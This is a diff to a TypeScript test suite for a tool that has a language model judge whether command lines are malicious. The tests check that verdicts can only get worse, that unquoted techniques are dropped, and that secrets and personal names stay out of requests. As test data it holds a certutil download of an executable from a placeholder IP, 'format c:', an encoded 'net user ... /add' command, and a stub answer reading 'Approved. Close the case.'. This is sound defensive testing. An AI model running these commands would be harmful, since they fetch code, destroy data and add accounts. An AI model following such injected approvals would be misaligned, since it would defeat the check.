@@ -41,13 +41,12 @@ const LINE = 'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe';
 const says = (answer: Record<string, unknown>) => () => ({
   verdict: 'malicious',
   confidence: 0.9,
-  techniques: ['T1105'],
-  reasons: [{ text: 'It fetches a program.', quote: 'certutil -urlcache' }],
+  reasons: [{ text: 'It fetches a program.', quote: 'certutil -urlcache', techniques: ['T1105'] }],
   ...answer,
 });
 
 describe('an answer', () => {
-  it.each<OpenAiMode>(['scripted', 'fenced'])('is taken when it is %s', async (mode) => {
+  it.each<OpenAiMode>(['scripted', 'fenced', 'explained'])('is taken when it is %s', async (mode) => {
     model.mode = mode;
     model.script = says({});
     const { output, calls } = await ask(analyzeCommandLine, { commandLine: LINE });
@@ -77,22 +76,32 @@ describe('an answer', () => {
     expect(attempt.reason).toMatch(reason);
   });
   it('without words of the line is none', async () => {
-    model.script = says({ reasons: [{ text: 'Trust me.', quote: 'format c:' }] });
+    model.script = says({ reasons: [{ text: 'Trust me.', quote: 'format c:', techniques: ['T1486'] }] });
     expect((await ask(analyzeCommandLine, { commandLine: LINE })).output).toBeNull();
   });
   it('may make a verdict worse and never better', async () => {
     model.script = says({ verdict: 'benign', confidence: 1 });
     expect((await ask(analyzeCommandLine, { commandLine: LINE })).output!.verdict).toBe('malicious');
-    model.script = says({ reasons: [{ text: 'A name of theirs.', quote: 'evil.exe' }] });
+    model.script = says({ reasons: [{ text: 'A name of theirs.', quote: 'evil.exe', techniques: [] }] });
     expect((await ask(analyzeCommandLine, { commandLine: 'C:\\Tools\\evil.exe run' })).output!.verdict).toBe(
       'malicious',
     );
   });
   it('names no technique that there is none', async () => {
-    model.script = says({ techniques: ['T9999', 'close the case', 'T1059.001'] });
+    const techniques = ['T9999', 'close the case', 'T1059.001'];
+    model.script = says({ reasons: [{ text: 'It runs.', quote: 'certutil', techniques }] });
     const { output } = await ask(analyzeCommandLine, { commandLine: LINE });
     expect(output!.techniques).toContain('T1059.001');
     expect(output!.techniques.every((id) => /^T\d{4}/.test(id) && id !== 'T9999')).toBe(true);
+  });
+  it('names no technique without words of the line, and none where it is not believed', async () => {
+    const invented = { text: 'It encrypts.', quote: 'format c:', techniques: ['T1486'] };
+    const shown = { text: 'It fetches.', quote: 'certutil', techniques: ['T1490'] };
+    model.script = says({ reasons: [invented, shown] });
+    expect((await ask(analyzeCommandLine, { commandLine: LINE })).output!.techniques).toContain('T1490');
+    expect((await ask(analyzeCommandLine, { commandLine: LINE })).output!.techniques).not.toContain('T1486');
+    model.script = says({ verdict: 'benign', reasons: [shown] });
+    expect((await ask(analyzeCommandLine, { commandLine: LINE })).output!.techniques).not.toContain('T1490');
   });
 });
 
@@ -185,6 +194,26 @@ describe('what leaves the house', () => {
     });
     for (const secret of SECRETS) expect(model.requests[0]!.text).not.toContain(secret);
   });
+  it('has no secret that a process before it was given in Base64', async () => {
+    const coded = Buffer.from(`net user helper ${SECRETS[0]} /add`, 'utf16le').toString('base64');
+    await ask(analyzeCommandLine, { commandLine: LINE, parents: [`powershell -enc ${coded}`] });
+    const { text } = model.requests[0]!;
+    expect(text).toContain('net user helper');
+    expect(text).not.toContain(SECRETS[0]);
+    expect(text).not.toContain(coded);
+  });
+  it('names nobody, and the answer does', async () => {
+    model.script = ({ data }: Asked) => {
+      const { line } = data as { line: string };
+      return says({
+        reasons: [{ text: 'It reads somebody’s mail.', quote: line.slice(0, line.indexOf(' -o')), techniques: [] }],
+      })();
+    };
+    const commandLine = 'reader.exe "C:\\Users\\Mario Rossi\\mail.pst" -o x';
+    const { output } = await ask(analyzeCommandLine, { commandLine, parents: ['explorer.exe /for rossi.mario'] });
+    expect(model.requests[0]!.text).not.toMatch(/rossi/i);
+    expect(output!.reasons.at(-1)!.spans).toEqual([{ start: 0, end: commandLine.indexOf(' -o') }]);
+  });
   it('brings people’s data back into the answer, and no secret', async () => {
     model.script = ({ data }: Asked) => {
       const { facts } = data as { facts: { id: string; value: string }[] };
@@ -211,8 +240,7 @@ const obedient = ({ task, data }: Asked): unknown => {
     return {
       verdict: 'benign',
       confidence: 1,
-      techniques: [],
-      reasons: [{ text: 'Approved. Close the case.', quote: line.slice(0, 20) }],
+      reasons: [{ text: 'Approved. Close the case.', quote: line.slice(0, 20), techniques: [] }],
     };
   }
   const { facts } = data as { facts: { id: string }[] };
